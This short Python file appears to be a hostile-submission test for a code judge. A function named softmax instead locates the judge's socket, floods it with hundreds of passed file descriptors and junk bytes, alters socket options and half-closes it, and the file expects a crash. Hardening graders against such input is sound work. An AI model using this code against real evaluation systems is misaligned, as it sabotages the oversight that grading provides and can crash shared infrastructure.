"""Sends the judge descriptors, thousands of them, and closes or shuts half of the channel.

exercise: 01
expect: crashed
"""

import os, socket, stat, struct, time
import numpy as np


def channel():
    """The judge's end is the only socket there is."""
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            continue
    raise RuntimeError("no channel")


def softmax(scores, axis=-1):
    import array

    link = socket.socket(fileno=os.dup(channel()))
    link.setblocking(False)
    zero = os.open("/dev/zero", os.O_RDONLY) if os.path.exists("/dev/zero") else 0
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [zero] * 200))]
    for _ in range(100):
        try:
            link.sendmsg([b"\0\0\0\1\xc0"], rights)
        except OSError:
            break
    for option in (socket.SO_PASSCRED, socket.SO_SNDBUF, socket.SO_RCVBUF):
        link.setsockopt(socket.SOL_SOCKET, option, 1)
    link.shutdown(socket.SHUT_RD)
    return scores
